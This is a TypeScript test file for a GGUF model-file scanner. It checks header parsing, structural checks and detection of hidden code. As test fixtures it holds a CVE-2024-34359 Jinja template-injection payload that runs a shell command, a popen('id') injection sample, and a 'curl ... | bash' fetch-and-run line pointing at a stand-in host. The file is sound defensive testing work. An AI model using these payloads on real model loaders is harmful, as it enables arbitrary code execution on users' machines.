import { readFileSync } from "node:fs";
import { mkdtemp, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { LimitError, MalformedError } from "../../core/errors.js";
import { createBufferSource } from "../../core/source.js";
import { detectFormat } from "../../detect/detect.js";
import { scan } from "../../scan/scan.js";
import { buildGguf, ggufHeader, str, strings, u32, type GgufSpec, type GgufValue } from "../../../test/fixtures/gguf/build.js";
import { writeLargeGguf } from "../../../test/fixtures/gguf/large.js";
import { ruleIds, runAnalyzer } from "../../../test/fixtures/safetensors/run-analyzer.js";
import { ggufAnalyzer } from "./analyzer.js";
import { DEFAULT_GGUF_LIMITS, parseGgufHeader } from "./header.js";

const REAL = JSON.parse(readFileSync(join(import.meta.dirname, "../../../test/fixtures/jinja/real-chat-templates.json"), "utf8")) as Array<{ repo: string; chat_template: string }>;
const LLAMA3 = REAL.find((r) => r.repo === "meta-llama/Llama-3.1-8B-Instruct")!.chat_template;
const CHATML = REAL.find((r) => r.repo === "NousResearch/Nous-Hermes-2-Mixtral-8x7B-DPO")!.chat_template;
const CVE_PAYLOAD =
  "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__ == 'catch_warnings' %}{{ c()._module.__builtins__['__import__']('os').system('touch /tmp/retr0reg') }}{% endif %}{% endfor %}";

/** Metadata of every value type, nested arrays included, as llama.cpp's converters write them (and more). */
const ALL_TYPES: Array<[string, GgufValue]> = [
  ["general.architecture", str("llama")],
  ["general.name", str("Test Model")],
  ["general.url", str("https://huggingface.co/meta-llama/Llama-3.1-8B-Instruct")],
  ["general.license", str("llama3.1")],
  ["general.tags", strings(["text-generation", "facebook", "meta", "pytorch"])],
  ["general.languages", strings(["en", "de", "fr"])],
  ["general.datasets", strings(["https://huggingface.co/datasets/some/dataset"])],
  ["llama.context_length", u32(131072)],
  ["llama.rope.freq_base", { type: "f32", value: 500000 }],
  ["llama.attention.layer_norm_rms_epsilon", { type: "f64", value: 1e-5 }],
  ["general.quantization_version", u32(2)],
  ["test.u8", { type: "u8", value: 255 }],
  ["test.i8", { type: "i8", value: -3 }],
  ["test.u16", { type: "u16", value: 65535 }],
  ["test.i16", { type: "i16", value: -300 }],
  ["test.i32", { type: "i32", value: -70000 }],
  ["test.u64", { type: "u64", value: 2n ** 40n }],
  ["test.i64", { type: "i64", value: -(2n ** 40n) }],
  ["test.bool", { type: "bool", value: true }],
  ["test.nested", { type: "array", elementType: "array", value: [strings(["a", "b"]), { type: "array", elementType: "u16", value: [{ type: "u16", value: 1 }] }] }],
  ["tokenizer.ggml.model", str("gpt2")],
  // Vocabularies hold code-like fragments; they are data, not findings.
  ["tokenizer.ggml.tokens", strings(["<s>", "import", " os", ".system(", "exec(", "__import__", "rm -rf /", "<script>", "https://x.example/a.sh"])],
  ["tokenizer.ggml.scores", { type: "array", elementType: "f32", value: Array.from({ length: 9 }, (_, i) => ({ type: "f32" as const, value: -i })) }],
  ["tokenizer.chat_template", str(LLAMA3)],
  ["tokenizer.chat_template.chatml", str(CHATML)],
];

const TENSORS: GgufSpec["tensors"] = [
  { name: "token_embd.weight", dims: [64, 4], type: 2 }, // Q4_0: 4 rows × 2 blocks × 18 bytes
  { name: "blk.0.attn_q.weight", dims: [8, 8], type: 0 },
  { name: "output_norm.weight", dims: [8], type: 1 },
];

const sniff = (b: Buffer): string => detectFormat({ head: b.subarray(0, 65536), tail: b.subarray(-65558), size: b.length, name: "x" });

describe("valid GGUF files", () => {
  for (const version of [1, 2, 3] as const) {
    for (const bigEndian of [false, true]) {
      it(`v${version} ${bigEndian ? "big" : "little"}-endian with every value type gives no finding`, async () => {
        const file = buildGguf({ version, bigEndian, alignment: 32, metadata: ALL_TYPES, tensors: TENSORS });
        expect(sniff(file)).toBe("gguf");
        const run = await runAnalyzer(ggufAnalyzer, file);
        expect(run.error).toBeUndefined();
        expect(run.findings).toEqual([]);
      });
    }
  }

  it("parses every field and reads only the header", async () => {
    const file = buildGguf({ version: 3, alignment: 64, metadata: ALL_TYPES, tensors: TENSORS });
    const header = await parseGgufHeader(createBufferSource(file), { keep: () => ({ maxString: 1 << 20, maxArrayStrings: 100 }) });
    expect(header.keyValues.map((k) => k.key)).toEqual(["general.alignment", ...ALL_TYPES.map(([k]) => k)]);
    expect(header.keyValues.find((k) => k.key === "test.i64")?.scalar).toBe(-(2n ** 40n));
    expect(header.keyValues.find((k) => k.key === "test.nested")?.strings.map((s) => s.value)).toEqual(["a", "b"]);
    expect(header.tensors.map((t) => [t.name, t.dims, t.type, t.offset])).toEqual([
      ["token_embd.weight", [64n, 4n], 2, 0n],
      ["blk.0.attn_q.weight", [8n, 8n], 0, 192n],
      ["output_norm.weight", [8n], 1, 448n],
    ]);
    const run = await runAnalyzer(ggufAnalyzer, buildGguf({ version: 3, metadata: [["general.architecture", str("llama")]], tensors: [{ name: "w", dims: [1 << 20], type: 0 }] }));
    expect(run.findings).toEqual([]);
    expect(run.bytesRead).toBeLessThan(70 * 1024); // one 64 KiB chunk, never the 4 MiB of tensor data
  });

  it("allows the padding writers put after the last tensor", async () => {
    const { header, dataSize } = ggufHeader({ alignment: 32, tensors: [{ name: "w", dims: [3], type: 0 }] });
    expect(dataSize).toBe(32);
    const exact = Buffer.concat([header, Buffer.alloc(12)]); // no final padding
    expect((await runAnalyzer(ggufAnalyzer, exact)).findings).toEqual([]);
    expect((await runAnalyzer(ggufAnalyzer, Buffer.concat([header, Buffer.alloc(32)]))).findings).toEqual([]);
  });

  it("scans a multi-GB sparse GGUF with a 152k-token vocabulary, reading the header only", async () => {
    const dir = await mkdtemp(join(tmpdir(), "mg-gguf-"));
    try {
      const path = join(dir, "big.gguf");
      const { size, headerBytes } = await writeLargeGguf(path, 3 * 1024 ** 3, { chatTemplate: LLAMA3 });
      expect(size).toBeGreaterThan(3 * 1024 ** 3 - 64 * 1024 ** 2);
      expect(headerBytes).toBeGreaterThan(1024 ** 2);
      const report = await scan([path], { digest: false });
      expect(report.files[0]!.format).toBe("gguf");
      expect(report.files[0]!.findings).toEqual([]);
      // the header, at most one read-ahead chunk past it, and detection's head and tail reads
      expect(report.summary.bytesRead).toBeLessThanOrEqual(headerBytes + 1024 ** 2 + 2 * 65558);
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  });
});

describe("chat templates in GGUF metadata", () => {
  it("reports the CVE-2024-34359 payload as critical, at the template's offset", async () => {
    const file = buildGguf({ metadata: [["general.architecture", str("llama")], ["tokenizer.chat_template", str(CVE_PAYLOAD)]] });
    const run = await runAnalyzer(ggufAnalyzer, file);
    const ssti = run.findings.filter((f) => f.ruleId === "jinja/ssti");
    expect(ssti.length).toBeGreaterThan(0);
    expect(ssti[0]!.severity).toBe("critical");
    expect(ssti[0]!.message).toMatch(/^tokenizer\.chat_template: /);
    expect(file.subarray(ssti[0]!.offset!, ssti[0]!.offset! + 6).toString()).toBe("{% for");
  });

  it("checks named templates too", async () => {
    const file = buildGguf({ metadata: [["tokenizer.chat_template", str(CHATML)], ["tokenizer.chat_template.tool_use", str("{{ lipsum.__globals__['os'].popen('id').read() }}")]] });
    const run = await runAnalyzer(ggufAnalyzer, file);
    expect(ruleIds(run)).toEqual(["jinja/ssti", "jinja/suspicious-reference"]);
    expect(run.findings.every((f) => f.message.startsWith("tokenizer.chat_template.tool_use: "))).toBe(true);
  });

  it("reports oversized templates", async () => {
    const big = `{% for m in messages %}${"x".repeat(1_100_000)}{% endfor %}`;
    const run = await runAnalyzer(ggufAnalyzer, buildGguf({ metadata: [["tokenizer.chat_template", str(big)]] }));
    expect(ruleIds(run)).toEqual(["jinja/template-too-large"]);
  });
});

describe("metadata that hides code", () => {
  it("finds code in descriptive strings but not in the vocabulary", async () => {
    const file = buildGguf({
      metadata: [
        ["general.description", str("Fine-tune. Setup: curl -s https://x.example/i.sh | bash")],
        ["general.update_url", str("http://198.51.100.7/update")],
        ["tokenizer.ggml.tokens", strings(["os.system(", "curl x | sh"])],
      ],
    });
    const run = await runAnalyzer(ggufAnalyzer, file);
    expect(ruleIds(run)).toEqual(["gguf/metadata-code", "gguf/metadata-url"]);
    expect(run.findings.every((f) => f.severity === "high")).toBe(true);
  });
});

describe("structure the reference reader refuses", () => {
  const base = (tensors: GgufSpec["tensors"], extra: Partial<GgufSpec> = {}): Buffer => buildGguf({ alignment: 32, metadata: [["general.architecture", str("llama")]], tensors, ...extra });

  it("overlapping tensors are critical", async () => {
    const run = await runAnalyzer(ggufAnalyzer, base([{ name: "a", dims: [16], type: 0 }, { name: "b", dims: [16], type: 0, offset: 32n }]));
    expect(ruleIds(run)).toContain("gguf/overlapping-tensors");
    expect(run.findings.find((f) => f.ruleId === "gguf/overlapping-tensors")?.severity).toBe("critical");
  });

  it("data past the end of the file is high", async () => {
    const file = base([{ name: "a", dims: [1024], type: 0 }]);
    const run = await runAnalyzer(ggufAnalyzer, file.subarray(0, file.length - 100));
    expect(ruleIds(run)).toEqual(["gguf/data-out-of-bounds"]);
  });

  it("gaps and trailing data are medium; a zip hidden there is scanned", async () => {
    const zip = Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04]), Buffer.alloc(60)]);
    // a at [0, 32), b at [128, 160); the builder sizes the data section for packed tensors (64 bytes), so pad it.
    const run = await runAnalyzer(ggufAnalyzer, base([{ name: "a", dims: [8], type: 0 }, { name: "b", dims: [8], type: 0, offset: 128n }], { trailing: Buffer.concat([Buffer.alloc(96), zip]) }));
    expect(ruleIds(run)).toEqual(["gguf/unaccounted-bytes"]);
    expect(run.findings.map((f) => f.evidence?.bytes)).toEqual([96, 64]);
    expect(run.findings.every((f) => f.severity === "medium")).toBe(true);
    expect(run.members.map((m) => m.format)).toEqual(["zip"]);
  });

  it("invalid tensor descriptions are high", async () => {
    const cases: Array<[string, GgufSpec["tensors"]]> = [
      ["five dimensions", [{ name: "a", dims: [1, 1, 1, 1, 2], type: 0 }]],
      ["misaligned offset", [{ name: "a", dims: [8], type: 0, offset: 4n }]],
      ["removed type", [{ name: "a", dims: [32], type: 4, bytes: 20 }]],
      ["row not a whole block", [{ name: "a", dims: [40], type: 2, bytes: 36 }]],
      ["duplicate name", [{ name: "a", dims: [8], type: 0 }, { name: "a", dims: [8], type: 0 }]],
      ["name too long", [{ name: "n".repeat(64), dims: [8], type: 0 }]],
    ];
    for (const [what, tensors] of cases) {
      const run = await runAnalyzer(ggufAnalyzer, base(tensors));
      expect(ruleIds(run), what).toContain("gguf/invalid-tensor");
    }
  });

  it("an unknown tensor type is medium", async () => {
    const run = await runAnalyzer(ggufAnalyzer, base([{ name: "a", dims: [8], type: 99, bytes: 32 }]));
    expect(run.findings.map((f) => [f.ruleId, f.severity])).toEqual([["gguf/unknown-tensor-type", "medium"]]);
  });

  it("duplicate keys and bad alignment are high", async () => {
    const dup = await runAnalyzer(ggufAnalyzer, buildGguf({ metadata: [["general.name", str("a")], ["general.name", str("b")]] }));
    expect(ruleIds(dup)).toEqual(["gguf/invalid-header"]);
    const align = await runAnalyzer(ggufAnalyzer, buildGguf({ metadata: [["general.alignment", u32(24)]] }));
    expect(ruleIds(align)).toEqual(["gguf/invalid-header"]);
    const type = await runAnalyzer(ggufAnalyzer, buildGguf({ metadata: [["general.alignment", { type: "u64", value: 32n }]] }));
    expect(ruleIds(type)).toEqual(["gguf/invalid-header"]);
  });
});

describe("headers that cannot be followed", () => {
  const error = async (b: Buffer): Promise<unknown> => (await runAnalyzer(ggufAnalyzer, b)).error;

  it("throws MalformedError for bad versions, truncation and implausible lengths", async () => {
    const good = buildGguf({ metadata: ALL_TYPES, tensors: TENSORS });
    const v7 = Buffer.from(good);
    v7.writeUInt32LE(7, 4);
    expect(await error(v7)).toBeInstanceOf(MalformedError);
    expect(await error(good.subarray(0, 200))).toBeInstanceOf(MalformedError);
    const badLen = buildGguf({ metadata: [["k", str("v")]] });
    badLen.writeBigUInt64LE(2n ** 62n, 24); // the key's length
    expect(await error(badLen)).toBeInstanceOf(MalformedError);
    const badType = buildGguf({ metadata: [["k", str("v")]] });
    badType.writeUInt32LE(13, 24 + 8 + 1); // the value type after key "k"
    expect(await error(badType)).toBeInstanceOf(MalformedError);
  });

  it("throws LimitError past the limits", async () => {
    let nested: GgufValue = strings(["x"]);
    for (let i = 0; i < DEFAULT_GGUF_LIMITS.maxArrayNesting + 1; i++) nested = { type: "array", elementType: "array", value: [nested] };
    expect(await error(buildGguf({ metadata: [["deep", nested]] }))).toBeInstanceOf(LimitError);
    const many = buildGguf({});
    many.writeBigUInt64LE(BigInt(DEFAULT_GGUF_LIMITS.maxTensors + 1), 8);
    expect(await error(many)).toBeInstanceOf(LimitError);
    const file = buildGguf({ metadata: ALL_TYPES });
    await expect(
      parseGgufHeader(createBufferSource(file), { limits: { ...DEFAULT_GGUF_LIMITS, maxHeaderBytes: 256 }, keep: () => ({ maxString: 0, maxArrayStrings: 0 }) }),
    ).rejects.toBeInstanceOf(LimitError);
  });
});
